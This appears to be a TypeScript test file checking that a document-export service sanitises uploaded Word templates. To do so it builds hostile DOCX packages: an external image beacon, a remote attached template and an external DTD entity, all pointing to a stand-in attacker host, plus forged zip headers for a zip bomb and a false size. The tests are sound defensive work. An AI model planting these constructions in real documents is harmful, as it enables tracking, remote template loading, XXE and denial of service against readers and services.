/**
 * A Word shell cannot make the exported DOCX reach out: external relationships other than
 * hyperlinks (a remote picture, an attached template) are removed with their references, DTDs
 * are dropped, UTF-16 parts are read, and overlapping zip entries are refused at once.
 */
import { Document, ExternalHyperlink, Packer, Paragraph, TextRun } from 'docx';
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import { applyShellTemplate } from '../../src/formats/docx/shell';
import { shellPlaceholderValues } from '../../src/templates/shellValues';
import { meta } from '../builders/documents';
import { planView } from '../builders/views';
import { ServiceError } from '../../src/errors';
import { statusOf } from '../../src/http/errors';
import { runRequest } from '../../src/service/worker';
import { fixtureJson } from '../builders/fixtures';

const ATTACKER = 'http://attacker.example';
const IMAGE_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/image';
const TEMPLATE_TYPE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate';

async function hostileShell(options: { utf16?: boolean } = {}): Promise<Uint8Array> {
  const document = new Document({
    sections: [
      {
        children: [
          new Paragraph("Plan: '{OPENCDMP.PLAN.TITLE}'"),
          new Paragraph({
            children: [
              new ExternalHyperlink({ link: 'https://example.org/policy', children: [new TextRun('our policy')] }),
            ],
          }),
          new Paragraph("'{OPENCDMP.BODY}'"),
        ],
      },
    ],
  });
  const files = unzipSync(new Uint8Array(await Packer.toBuffer(document)));
  const rels = strFromU8(files['word/_rels/document.xml.rels']).replace(
    '</Relationships>',
    `<Relationship Id="rIdEvil" Type="${IMAGE_TYPE}" Target="${ATTACKER}/track.png" TargetMode="External"/></Relationships>`,
  );
  files['word/_rels/document.xml.rels'] = strToU8(rels);
  let documentXml = strFromU8(files['word/document.xml'])
    .replace(
      '<w:body>',
      `<w:body><w:p><w:r><w:pict><v:shape style="width:10pt;height:10pt"><v:imagedata r:id="rIdEvil"/></v:shape></w:pict></w:r></w:p>`,
    )
    .replace(
      /^(<\?xml[^>]*\?>)/,
      '$1<!DOCTYPE w:document [<!ENTITY % remote SYSTEM "http://attacker.example/dtd"> %remote;]>',
    );
  if (options.utf16) documentXml = documentXml.replace(/encoding="UTF-8"/i, 'encoding="UTF-16"');
  files['word/document.xml'] = options.utf16
    ? new Uint8Array(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(documentXml, 'utf16le')]))
    : strToU8(documentXml);
  files['word/_rels/settings.xml.rels'] = strToU8(
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rIdTpl" Type="${TEMPLATE_TYPE}" Target="${ATTACKER}/evil.dotm" TargetMode="External"/></Relationships>`,
  );
  files['word/settings.xml'] = strToU8(
    strFromU8(files['word/settings.xml']).replace(/(<w:settings\b[^>]*>)/, '$1<w:attachedTemplate r:id="rIdTpl"/>'),
  );
  return zipSync(files);
}

const fill = (template: Uint8Array) =>
  applyShellTemplate({
    template,
    fieldCode: 'plan-template',
    values: shellPlaceholderValues(planView(), {}),
    body: [],
    meta: meta(),
  });

function partsOf(bytes: Uint8Array): Record<string, string> {
  return Object.fromEntries(Object.entries(unzipSync(bytes)).map(([path, data]) => [path, strFromU8(data)]));
}

describe('Word shells are sanitised', () => {
  it.each([false, true])(
    'removes every external relationship but hyperlinks, and drops the DTD (UTF-16 document: %s)',
    async (utf16) => {
      const { bytes } = await fill(await hostileShell({ utf16 }));
      const parts = partsOf(bytes);
      const all = Object.values(parts).join('\n');
      expect(all).not.toContain(ATTACKER);
      expect(all).not.toMatch(/<!DOCTYPE/i);
      expect(parts['word/document.xml']).not.toContain('rIdEvil');
      expect(parts['word/settings.xml']).not.toContain('attachedTemplate');
      // The hyperlink, which a reader chooses to follow, stays.
      expect(parts['word/_rels/document.xml.rels']).toContain('https://example.org/policy');
      expect(parts['word/document.xml']).toContain('Plan: Ocean Survey');
    },
  );

  it('refuses a package whose entries overlap (a zip bomb) at once', async () => {
    const files = unzipSync(await hostileShell());
    const zip = zipSync(files, { level: 0 });
    // Point a second central-directory entry at the first entry's data: declared sizes now add up to more than the file.
    const view = Buffer.from(zip);
    const centralEntries: number[] = [];
    for (let i = view.length - 22; i >= 0; i--) if (view.readUInt32LE(i) === 0x02014b50) centralEntries.push(i);
    centralEntries.sort((a, b) => a - b);
    const biggest = centralEntries.reduce((best, at) =>
      view.readUInt32LE(at + 20) > view.readUInt32LE(best + 20) ? at : best,
    );
    for (const at of centralEntries) {
      if (at === biggest) continue;
      // Same local header offset, same sizes: every entry now claims the biggest entry's data.
      view.writeUInt32LE(view.readUInt32LE(biggest + 42), at + 42);
      view.writeUInt32LE(view.readUInt32LE(biggest + 20), at + 20);
      view.writeUInt32LE(view.readUInt32LE(biggest + 24), at + 24);
    }
    const error = await fill(new Uint8Array(view)).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ServiceError);
    expect(statusOf(error)).toBe(400);
    expect((error as ServiceError).message).toMatch(/share their data \(a zip bomb\)/);
  });
});

describe('a Word shell that lies about its size', () => {
  /** The plan with `shell` as its plan-template upload. */
  function planWithShell(shell: Uint8Array) {
    const plan = fixtureJson('plan-full.json');
    plan.planBlueprint.definition.plugins = [
      {
        code: 'dmp-file-transformer',
        type: 0,
        fields: [
          {
            code: 'plan-template',
            textValue: null,
            file: {
              filename: 'shell.docx',
              fileRef: null,
              mimeType: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
              file: Buffer.from(shell).toString('base64'),
            },
          },
        ],
      },
    ];
    return new TextEncoder().encode(JSON.stringify(plan));
  }

  it('is refused from its directory, before the document is laid out; a PDF export does not read it', async () => {
    const shell = Buffer.from(zipSync(unzipSync(await hostileShell()), { level: 0 }));
    // word/document.xml claims a gigabyte the file does not hold.
    for (let at = 0; at + 46 < shell.length; at++) {
      if (shell.readUInt32LE(at) !== 0x02014b50) continue;
      if (shell.subarray(at + 46, at + 46 + shell.readUInt16LE(at + 28)).toString() !== 'word/document.xml') continue;
      shell.writeUInt32LE(1024 ** 3, at + 20);
      shell.writeUInt32LE(1024 ** 3, at + 24);
    }
    const body = planWithShell(new Uint8Array(shell));
    const context = { transformerId: 'dmp-file-transformer' };
    const docx = await runRequest({ action: 'export', entity: 'plan', format: 'docx', body, context });
    expect(docx.ok).toBe(false);
    if (docx.ok) return;
    expect(docx.error.kind).toBe('bad-request');
    expect(docx.error.details).toEqual([
      {
        path: 'plan-template',
        message:
          'the file is damaged or a zip bomb: "word/document.xml" declares 1,073,741,824 bytes of data the file does not hold.',
      },
    ]);
    expect((await runRequest({ action: 'export', entity: 'plan', format: 'pdf', body, context })).ok).toBe(true);
  });
});
